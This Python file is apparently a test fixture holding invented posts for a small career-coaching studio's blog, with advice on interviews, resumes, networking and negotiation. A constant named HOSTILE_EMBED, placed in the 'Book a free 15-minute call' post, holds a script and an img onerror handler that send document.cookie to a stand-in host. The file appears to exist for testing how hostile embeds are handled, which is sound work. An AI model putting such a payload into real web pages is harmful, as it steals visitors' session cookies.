"""The sample blog's content: a small career-coaching studio's Weebly blog.

Data only. Every name, business and story here is invented for this fixture.
"""

from datetime import datetime

from .model import (
    MORE,
    TAIL_BREAK,
    TAIL_PARAGRAPH,
    Bullets,
    Comment,
    CustomHtml,
    Heading,
    Para,
    Picture,
    Post,
    Quote,
    byline,
    signature,
)

SITE_NAME = "Brightwater Career Studio"
HOME_TITLE = "Home"
BLOG_TITLE = "Blog"
SITE_PITCH = (
    "Brightwater Career Studio helps people find work they look forward to. "
    "This blog shares what we learn from our clients every week."
)
NEWSLETTER_PITCH = (
    "Want these tips in your inbox? Sign up for our monthly newsletter and get "
    "our free interview prep worksheet."
)
HOME_PARAGRAPHS = (
    "We are a three-person career coaching studio. We run mock interviews, "
    "rewrite resumes and help people plan a change of direction.",
    "Most of what we know ends up on our blog sooner or later.",
)
# Sidebar "Featured" links: the first with a trailing slash and tracking
# parameters, the second with a fragment (real sidebars are this messy).
FEATURED_TITLES = (
    "The two-minute answer to tell me about yourself",
    "Résumé gaps and how to explain them",
)

UPLOADS = "/uploads/7/3/1/2/73129984"

HOSTILE_EMBED = (
    "<script type=\"text/javascript\">"
    "document.write('<iframe src=\"//booking.example.invalid/widget?c=' + document.cookie + '\"></iframe>');"
    "</script>"
    "<img src=\"/uploads/missing-widget.gif\" alt=\"\" "
    "onerror=\"this.onerror=null;fetch('//booking.example.invalid/t?c='+document.cookie)\" />"
)

POSTS: list[Post] = [
    Post(
        title="Welcome to the Brightwater blog",
        posted=datetime(2023, 9, 5, 8, 30),
        blocks=(
            Para("After years of giving the same advice one client at a time, we decided to write it down."),
            Para(
                "Expect short, practical posts about interviews, resumes, networking and the "
                "occasional leap into a brand new field. If there is a topic you want us to cover, "
                "tell us at your next session."
            ),
        ),
        credit=signature("—", "Dana Whitfield", place=TAIL_PARAGRAPH),
    ),
    Post(
        title="5 questions to ask at the end of an interview",
        posted=datetime(2023, 9, 12, 10, 0),
        categories=("Interviews",),
        credit=byline("By ", "Marcus Oyelaran"),
        social=True,
        blocks=(
            Para(
                "When the interviewer asks whether you have any questions, the answer is always yes. "
                "Here are five we keep coming back to:"
            ),
            Bullets(
                (
                    "What does a great first ninety days look like in this role?",
                    "What is the hardest part of this job that the posting does not mention?",
                    "How does the team share feedback?",
                    "Who would I work with most closely?",
                    "What are the next steps, and when should I expect to hear back?",
                )
            ),
            Para("Pick two or three. Nobody expects you to run through all five."),
        ),
    ),
    Post(
        title="Why your resume summary is not working",
        posted=datetime(2023, 9, 26, 14, 10),
        categories=("Resumes",),
        blocks=(
            Para(
                "Most summaries we see read like a list of adjectives: motivated, detail-oriented, "
                "passionate. A hiring manager skims past all three.",
                "Replace them with one concrete sentence about what you do and for whom, then one "
                "result you are proud of. <strong>Two lines beat six.</strong>",
            ),
        ),
    ),
    Post(
        title="Prepping for a panel interview",
        posted=datetime(2023, 10, 3, 9, 0),
        categories=("Interviews",),
        credit=signature("-- ", "Dana Whitfield", "Marcus Oyelaran"),
        blocks=(
            Para(
                "A panel can feel like a firing squad, but it is really several short conversations "
                "happening at once.",
                "Learn every name before you walk in. Answer the person who asked, then glance at the "
                "others as you finish so nobody feels left out.",
                "If two panelists seem to want different things, say so kindly and ask which matters "
                "more for the role. That question alone shows the judgment they are testing for.",
            ),
        ),
    ),
    Post(
        title="Résumé gaps and how to explain them",
        posted=datetime(2023, 10, 10, 11, 20),
        categories=("Resumes", "Interviews"),
        credit=byline("By ", "Zoë Ibáñez"),
        blocks=(
            Para(
                "A gap on your résumé is not a confession. People take time off to raise children, "
                "care for parents, recover from illness or simply rest."
            ),
            Heading("On paper"),
            Para(
                "List the gap like any other period if you did something you can name: "
                "<em>Family caregiver, 2021–2022</em>. Otherwise leave the dates honest and move on."
            ),
            Heading("In the room"),
            Para(
                "Keep the explanation to two sentences, then turn to why you are ready now. The "
                "interviewer mostly wants to know that the reason is behind you."
            ),
        ),
    ),
    Post(
        title="Informational interviews without the awkwardness",
        posted=datetime(2023, 10, 19, 16, 45),
        categories=("Networking", "Interviews"),
        credit=signature("– ", "Priya Raman", place=TAIL_BREAK),
        social=True,
        blocks=(
            Para(
                "An informational interview is a conversation, not a job application in disguise. "
                "Ask for twenty minutes and stick to twenty minutes."
            ),
            Para(
                "Come with three questions about their path and one about the industry. At the end, "
                "ask who else you should talk to. That last question is where most of the value is."
            ),
        ),
    ),
    Post(
        title="Thank-you notes that actually get read",
        posted=datetime(2023, 10, 31, 13, 5),
        categories=("Interviews",),
        blocks=(
            Para(
                "Send it the same day, keep it under a hundred words, and mention one specific thing "
                "from the conversation.",
                "Skip the recap of your qualifications. They just spent an hour hearing about them.",
            ),
        ),
    ),
    Post(
        title="Cleaning up your LinkedIn before the new year",
        posted=datetime(2023, 11, 7, 9, 40),
        categories=("Networking",),
        credit=byline("Posted by ", "Tom Kessler"),
        blocks=(
            Picture(f"{UPLOADS}/published/profile-photo-tips.jpg?1699371600"),
            Para(
                "Your headline is the only line most people read. Make it say what you do, not just "
                "your current title.",
                "Then ask two former colleagues for a short recommendation each. It takes them five "
                "minutes and it stays on your profile for years.",
            ),
        ),
    ),
    Post(
        title="Is it time for a career change",
        posted=datetime(2023, 11, 14, 8, 15),
        categories=("Career Change",),
        blocks=(
            Para(
                "Everyone has bad weeks. A bad year is different. Here is how we help clients tell "
                "the two apart."
            ),
            MORE,
            Bullets(
                (
                    "You dread the work itself, not only the people or the commute.",
                    "The parts of the job you enjoy keep shrinking.",
                    "You catch yourself reading about other fields for fun.",
                ),
                intro="Three signs it may be more than a rough patch:",
            ),
            Para(
                "If two of those sound familiar, start small: one conversation with someone in the "
                "field you are curious about. You do not have to quit anything to learn more."
            ),
        ),
    ),
    Post(
        title="Holiday parties are networking too",
        posted=datetime(2023, 11, 28, 15, 30),
        categories=("Networking",),
        credit=signature("—", "Marcus Oyelaran", place=TAIL_BREAK),
        blocks=(
            Para(
                "Nobody wants to be handed a business card between the cookies. But the season is "
                "full of easy, low-pressure chances to reconnect.",
                "Ask people what they are looking forward to next year. Remember the answers and "
                "follow up in January.",
            ),
        ),
    ),
    Post(
        title="Year-end reviews - what to bring",
        posted=datetime(2023, 12, 5, 10, 30),
        categories=("Negotiation",),
        credit=byline("Written by ", "Priya Raman", "Tom Kessler"),
        blocks=(
            Para(
                "Your manager will not remember everything you did this year. Bring a one-page list "
                "of results, with numbers where you have them."
            ),
            Para(
                "Add one thing you want to learn next year and one thing you want more of. A review "
                "is a negotiation, even when nobody calls it that."
            ),
        ),
    ),
    Post(
        title="Our holiday hours",
        posted=datetime(2023, 12, 12, 12, 0),
        blocks=(
            Para(
                "The studio will be closed from December 23 through January 2. Sessions booked for "
                "the first week of January are confirmed.",
                "Happy holidays from all of us!",
            ),
        ),
    ),
    Post(
        title="Setting career goals you will keep",
        posted=datetime(2024, 1, 4, 9, 0),
        categories=("Career Change",),
        credit=byline("By ", "Dana Whitfield", wrap="em"),
        blocks=(
            Para(
                "Resolutions fail when they are vague. \"Find a better job\" is a wish, not a goal."
            ),
            Para(
                "Try something you control: two informational interviews a month, or one new skill "
                "course finished by March. Progress you can count keeps you going when the job "
                "market is quiet."
            ),
        ),
    ),
    Post(
        title="The two-minute answer to tell me about yourself",
        posted=datetime(2024, 1, 9, 8, 0),
        categories=("Interviews",),
        credit=signature("-- ", "Zoë Ibáñez", "Priya Raman"),
        social=True,
        comments_open=True,
        comments=(
            Comment("Jen Park", datetime(2024, 1, 9, 19, 12, 4), "Used this structure yesterday and it worked. Thank you!"),
            Comment("Carlos Mendes", datetime(2024, 1, 11, 7, 58, 31), "What if my past is all over the place?"),
        ),
        blocks=(
            Para(
                "It is almost always the first question, and most people either freeze or recite "
                "their whole work history.",
                "Use three beats: where you are now, one or two things that got you here, and why "
                "this role is the obvious next step. Practice it out loud until it fits in two "
                "minutes.",
                "It should sound like a story, not a list.",
            ),
        ),
    ),
    Post(
        title="Remote job boards worth your time",
        posted=datetime(2024, 1, 18, 14, 0),
        categories=("Remote Work",),
        blocks=(
            Para("The big job sites bury remote roles under hybrid ones. A few places make filtering easier."),
            Bullets(
                (
                    "Company career pages, searched with the word <em>remote</em> and the city left blank.",
                    "Industry newsletters, which often list roles that never reach the big boards.",
                    "The <a href=\"https://www.usajobs.gov/\" target=\"_blank\">USAJOBS</a> site, which "
                    "has a telework filter.",
                )
            ),
            Para("Whatever you use, set an alert and check it daily. Remote postings fill fast."),
        ),
    ),
    Post(
        title="Cover letters in 2024",
        posted=datetime(2024, 1, 30, 10, 45),
        categories=("Resumes",),
        credit=signature("– ", "Zoë Ibáñez", place=TAIL_PARAGRAPH),
        blocks=(
            Para("Are cover letters dead? Not quite. They are read less often, but when they are read, they matter."),
            Para(
                "Write three short paragraphs: why this company, why you, and what you would do first. "
                "If you cannot name something specific about the company, you are not ready to apply."
            ),
        ),
    ),
    Post(
        title="Video interview checklist",
        posted=datetime(2024, 2, 6, 9, 30),
        categories=("Interviews", "Remote Work"),
        credit=byline("Posted by ", "Marcus Oyelaran"),
        blocks=(
            Picture(f"{UPLOADS}/published/video-call-setup.jpg?1707230000"),
            Bullets(
                (
                    "Camera at eye level, with a window in front of you rather than behind.",
                    "Headphones, even cheap ones.",
                    "A sticky note with your three key stories next to the lens.",
                    "Phone on silent and out of reach.",
                ),
                intro="Run through this list the day before, not five minutes before:",
            ),
            Para("Join two minutes early. Waiting rooms exist for a reason."),
        ),
    ),
    Post(
        title="How to ask for a raise",
        posted=datetime(2024, 2, 13, 11, 0),
        categories=("Negotiation",),
        credit=signature("—", "Priya Raman", place=TAIL_PARAGRAPH),
        blocks=(
            Para("Asking for more money is uncomfortable for almost everyone. Preparation makes it less so."),
            MORE,
            Heading("Do the homework"),
            Para(
                "Find the range for your role from at least two sources. Write down what you have "
                "delivered since your last raise."
            ),
            Heading("Pick the moment"),
            Para(
                "Ask for a meeting about your pay specifically, not a hallway chat. Budget season is "
                "better than the week after layoffs."
            ),
            Para("Then say a number, and stop talking."),
        ),
    ),
    Post(
        title="Switching industries at forty",
        posted=datetime(2024, 2, 27, 15, 20),
        categories=("Career Change",),
        blocks=(
            Para(
                "By now you have probably heard that it is never too late to change careers. It is "
                "true, but it helps to be honest about the trade-offs."
            ),
            Para(
                "You may take a step back in title for a year or two. In exchange you bring judgment "
                "and calm that younger colleagues are still building. Lead with those in interviews."
            ),
        ),
    ),
    Post(
        title="Behavioral questions and the STAR method",
        posted=datetime(2024, 3, 7, 9, 15),
        categories=("Interviews",),
        credit=byline("By ", "Tom Kessler"),
        comments_open=True,
        comments=(Comment("Hannah L.", datetime(2024, 3, 8, 10, 2, 45), "The result part is where I always trail off. Good reminder."),),
        blocks=(
            Para("\"Tell me about a time when...\" questions reward a simple structure:"),
            Bullets(
                (
                    "<strong>Situation</strong>: one sentence of context.",
                    "<strong>Task</strong>: what you were responsible for.",
                    "<strong>Action</strong>: what you did, in the first person.",
                    "<strong>Result</strong>: what changed, with a number if you have one.",
                )
            ),
            Para("Most people spend too long on the situation. Aim for half your answer on the action."),
        ),
    ),
    Post(
        title="Networking for introverts",
        posted=datetime(2024, 3, 12, 10, 30),
        categories=("Networking",),
        credit=signature("-- ", "Marcus Oyelaran"),
        blocks=(
            Para(
                "You do not need to work a room. One good conversation at an event is a win.",
                "One-on-one coffee suits most introverts better than mixers anyway. Our post on "
                "<a href=\"/blog/informational-interviews-without-the-awkwardness\">informational "
                "interviews</a> has a script you can borrow.",
            ),
        ),
    ),
    Post(
        title="Book a free 15-minute call",
        posted=datetime(2024, 3, 21, 12, 0),
        blocks=(
            Para(
                "We have added online booking. Pick any open slot below for a free fifteen-minute call "
                "about where you are and where you want to go."
            ),
            CustomHtml(HOSTILE_EMBED),
            Para("If the calendar does not load, just reply to our newsletter and we will find a time."),
        ),
    ),
    Post(
        title="Spring cleaning for your resume",
        posted=datetime(2024, 3, 31, 21, 45),
        categories=("Resumes",),
        credit=signature("– ", "Zoë Ibáñez", place=TAIL_BREAK),
        blocks=(
            Para(
                "Cut anything older than fifteen years unless it is the reason you are qualified.",
                "Swap duties for results: \"managed the schedule\" becomes \"cut overtime by 12%\".",
                "Then read it aloud. Anything you stumble over, rewrite.",
            ),
        ),
    ),
    Post(
        title="Reading a job posting between the lines",
        posted=datetime(2024, 4, 2, 8, 50),
        categories=("Resumes",),
        blocks=(
            Heading("What the posting really says", bare=True),
            Para(
                "A list of fifteen requirements usually means three that matter and twelve that "
                "someone copied from an older posting.",
                "Look for the skills mentioned twice, or in the first lines. Those are the ones to "
                "mirror in your resume.",
            ),
        ),
    ),
    Post(
        title="What to do when an offer is lower than expected",
        posted=datetime(2024, 4, 9, 13, 30),
        categories=("Negotiation",),
        credit=byline("Written by ", "Dana Whitfield", "Priya Raman"),
        comments_open=True,
        comments=(Comment("Dev Kapoor", datetime(2024, 4, 10, 21, 5, 9), "Asking for a day to think made all the difference for me."),),
        blocks=(
            Para(
                "First, thank them and ask for a day to consider. You never have to answer on the call."
            ),
            Para(
                "Then come back with one number and one reason. If salary truly cannot move, ask about "
                "a signing bonus, an earlier review date or an extra week of leave."
            ),
        ),
    ),
    Post(
        title="Staying visible when you work from home",
        posted=datetime(2024, 4, 23, 10, 10),
        categories=("Remote Work",),
        credit=byline("By ", "Priya Raman"),
        blocks=(
            Para(
                "Out of sight can mean out of mind at promotion time.",
                "Send a short Friday note to your manager: what you finished, what is next, where you "
                "are stuck. It takes ten minutes and it builds a record nobody else is keeping for you.",
            ),
        ),
    ),
    Post(
        title="Mock interviews are back",
        posted=datetime(2024, 5, 2, 9, 0),
        categories=("Interviews",),
        credit=byline("Posted by ", "Dana Whitfield"),
        social=True,
        blocks=(
            Para(
                "Our Thursday evening mock interview nights return this month. Bring a job posting and "
                "we will play the hiring manager.",
                "Seats are limited to six so everyone gets two full rounds.",
            ),
        ),
    ),
    Post(
        title="Transferable skills from teaching",
        posted=datetime(2024, 5, 14, 11, 25),
        categories=("Career Change", "Resumes"),
        credit=signature("—", "Zoë Ibáñez"),
        blocks=(
            Para(
                "Teachers often undersell themselves when they leave the classroom. You already do "
                "things companies pay good money for:"
            ),
            Bullets(
                (
                    "Explaining hard ideas to mixed audiences.",
                    "Planning months of work against fixed deadlines.",
                    "Handling difficult conversations with parents, which is stakeholder management.",
                )
            ),
            Para("Name those skills in the language of the job you want, and the gap looks much smaller."),
        ),
    ),
    Post(
        title="Graduation season advice for new grads",
        posted=datetime(2024, 5, 28, 16, 0),
        credit=signature("-- ", "Tom Kessler"),
        blocks=(
            Para("Congratulations! Now, three things we wish someone had told us."),
            Para(
                "Your first job does not decide your career. Say yes to learning, even when the title "
                "is dull. And keep in touch with your classmates; they will be hiring managers sooner "
                "than you think."
            ),
        ),
    ),
    Post(
        title="Following up after an interview without being pushy",
        posted=datetime(2024, 6, 4, 9, 5),
        categories=("Interviews",),
        blocks=(
            Para(
                "If they said you would hear back in a week, wait eight working days, then send one "
                "short note.",
                "Restate your interest and ask whether the timeline has changed. That is it. And if you "
                "have not sent a <a href=\"/blog/thank-you-notes-that-actually-get-read\">thank-you note</a> "
                "yet, do that first.",
            ),
        ),
    ),
    Post(
        title="Your café job belongs on your résumé",
        posted=datetime(2024, 6, 11, 14, 40),
        categories=("Resumes",),
        credit=signature("– ", "Marcus Oyelaran", place=TAIL_PARAGRAPH),
        blocks=(
            Para(
                "Serving two hundred customers a morning takes speed, accuracy and patience. Those "
                "count, whatever your next field is."
            ),
            Para("Describe the volume and the pressure, not just the tasks, and let the reader connect the dots."),
        ),
    ),
    Post(
        title="Summer slowdowns and the hiring calendar",
        posted=datetime(2024, 7, 2, 10, 0),
        categories=("Networking",),
        credit=byline("Posted by ", "Priya Raman"),
        blocks=(
            Para(
                "Hiring slows in July and August, but it does not stop. Fewer applicants means your "
                "application gets more attention.",
                "Use the quiet weeks to reconnect with people. September is busy; summer is when they "
                "have time for coffee.",
            ),
        ),
    ),
    Post(
        title="Questions we hear about salary ranges",
        posted=datetime(2024, 7, 9, 13, 15),
        categories=("Negotiation",),
        blocks=(
            Para("Pay transparency laws have changed the conversation. Here are the questions clients ask us most."),
            MORE,
            Heading("Should I aim for the top of the range?"),
            Para("Aim for the upper half if you meet every requirement. The top is for people who exceed them."),
            Heading("What if there is no range?"),
            Para("Ask for it early, before the final round. It is a normal question now."),
        ),
    ),
    Post(
        title="Answering the weakness question honestly",
        posted=datetime(2024, 7, 25, 11, 50),
        categories=("Interviews",),
        credit=signature("—", "Tom Kessler", place=TAIL_PARAGRAPH),
        blocks=(
            Para(
                "\"I work too hard\" fools nobody. Pick a real weakness that will not sink you in this "
                "role, and say what you do about it.",
                "For example: you used to avoid delegating, so now you keep a list of tasks only you can "
                "do and hand off the rest.",
            ),
        ),
    ),
    Post(
        title="Career change stories from our clients",
        posted=datetime(2024, 8, 6, 9, 0),
        categories=("Career Change",),
        credit=byline("Written by ", "Priya Raman", "Tom Kessler", "Dana Whitfield"),
        blocks=(
            Para("We asked three former clients what helped most when they changed fields. A few answers:"),
            Quote("Talking to people in the job before applying. I learned it was nothing like the TV version."),
            Quote("Taking one evening class first, so I knew I actually liked the work."),
            Para("None of them changed overnight. All of them started with a conversation."),
        ),
    ),
    Post(
        title="Coffee chats that lead somewhere",
        posted=datetime(2024, 8, 13, 8, 20),
        categories=("Networking",),
        credit=byline("By ", "Dana Whitfield"),
        social=True,
        blocks=(
            Para(
                "End every coffee chat with a small, specific ask: an introduction, an article, a "
                "second conversation in a month.",
                "Then follow up within&nbsp;48 hours. The chat is the start of the relationship, not "
                "the whole of it.",
            ),
        ),
    ),
    Post(
        title="Setting up a home office on a budget",
        posted=datetime(2024, 8, 29, 17, 0),
        categories=("Remote Work",),
        blocks=(
            Picture(f"{UPLOADS}/published/desk-by-the-window.jpg?1724950000"),
            Para(
                "Spend money on a chair before a monitor. Your back will thank you long before your "
                "eyes do."
            ),
            Para("A lamp behind the camera and a plain wall will do more for your video calls than any webcam upgrade."),
        ),
    ),
    Post(
        title="Interviewing the interviewer",
        posted=datetime(2024, 9, 4, 10, 30),
        categories=("Interviews",),
        credit=signature("– ", "Priya Raman"),
        blocks=(
            Para(
                "An interview goes both ways. Watch how they treat your time, whether they answer "
                "questions directly and how they talk about people who left.",
                "If something feels off in the interview, it will feel worse on a Monday morning.",
            ),
        ),
    ),
    Post(
        title="Counteroffers and when to walk away",
        posted=datetime(2024, 9, 10, 15, 0),
        categories=("Negotiation",),
        credit=byline("Posted by ", "Tom Kessler", wrap="strong"),
        blocks=(
            Para(
                "When you resign, your employer may suddenly find the money they could not find before."
            ),
            Para(
                "Ask yourself why you started looking. If the answer was not money, a raise will not "
                "fix it, and you may simply end up looking again next year."
            ),
        ),
    ),
    Post(
        title="One page or two",
        posted=datetime(2024, 9, 24, 9, 45),
        categories=("Resumes",),
        credit=signature("—", "Zoë Ibáñez", place=TAIL_PARAGRAPH),
        comments=(
            Comment("Rosa Quintero", datetime(2024, 9, 24, 18, 30, 0), "Finally an answer that is not just 'it depends'."),
            Comment("Jen Park", datetime(2024, 9, 26, 8, 14, 52), "Two pages it is. Thanks!"),
        ),
        blocks=(
            Para(
                "Early in your career, one page. With ten or more years of relevant experience, two "
                "pages is fine, as long as the first page could stand on its own."
            ),
            Para("Never three."),
        ),
    ),
    Post(
        title="Case interviews for non-consultants",
        posted=datetime(2024, 10, 1, 9, 0),
        categories=("Interviews",),
        credit=byline("By ", "Marcus Oyelaran"),
        blocks=(
            Para(
                "More companies outside consulting now use case questions. The good news: they care "
                "about your thinking, not the exact answer."
            ),
            MORE,
            Bullets(
                (
                    "Repeat the problem back in your own words.",
                    "Ask one or two clarifying questions.",
                    "Say your plan before you start calculating.",
                    "Sum up with a recommendation, even if you are unsure.",
                ),
                intro="A simple routine:",
            ),
            Para("Practice with a friend and a timer. Thinking out loud feels strange until it does not."),
        ),
    ),
    Post(
        title="A gentle guide to asking for referrals",
        posted=datetime(2024, 10, 8, 11, 0),
        categories=("Networking",),
        blocks=(
            Para(
                "A referral is a favor, so make it easy to grant. Send the posting link, two lines on "
                "why you fit, and your resume.",
                "Give them an easy way out, too. People are far more willing to help when saying no "
                "would not be awkward.",
            ),
        ),
    ),
    Post(
        title="Working across time zones",
        posted=datetime(2024, 10, 22, 14, 15),
        categories=("Remote Work",),
        credit=signature("-- ", "Dana Whitfield", "Marcus Oyelaran"),
        blocks=(
            Para("Put your working hours in your email signature and your calendar, in your own time zone."),
            Para(
                "Protect two overlap hours a day for live conversations and do everything else in "
                "writing.",
                "Write as if the reader will see your message eight hours from now, because they will.",
            ),
        ),
    ),
    Post(
        title="Group interviews and how to stand out",
        posted=datetime(2024, 11, 5, 10, 0),
        categories=("Interviews",),
        credit=signature("—", "Marcus Oyelaran"),
        social=True,
        blocks=(
            Para(
                "In a group interview, the loudest candidate rarely wins. The assessors are watching "
                "how you work with the others.",
                "Build on someone else's idea by name, keep an eye on the clock for the group, and "
                "invite the quiet person in.",
            ),
        ),
    ),
    Post(
        title="Updating your resume after a layoff",
        posted=datetime(2024, 11, 12, 9, 30),
        categories=("Resumes", "Career Change"),
        credit=byline("Written by ", "Zoë Ibáñez", "Tom Kessler"),
        blocks=(
            Para(
                "A layoff is not a firing, and you do not need to explain it on your resume. End date "
                "the role like any other."
            ),
            Para(
                "Add your most recent results while they are fresh, and write down the numbers before "
                "you lose access to the dashboards."
            ),
        ),
    ),
    Post(
        title="Giving thanks and a studio update",
        posted=datetime(2024, 11, 19, 12, 0),
        blocks=(
            Para(
                "This year we ran more than four hundred sessions and moved into a bigger room above "
                "the bakery on Harbor Street.",
                "Thank you for trusting us with your job searches, your doubts and your good news.",
            ),
        ),
    ),
]
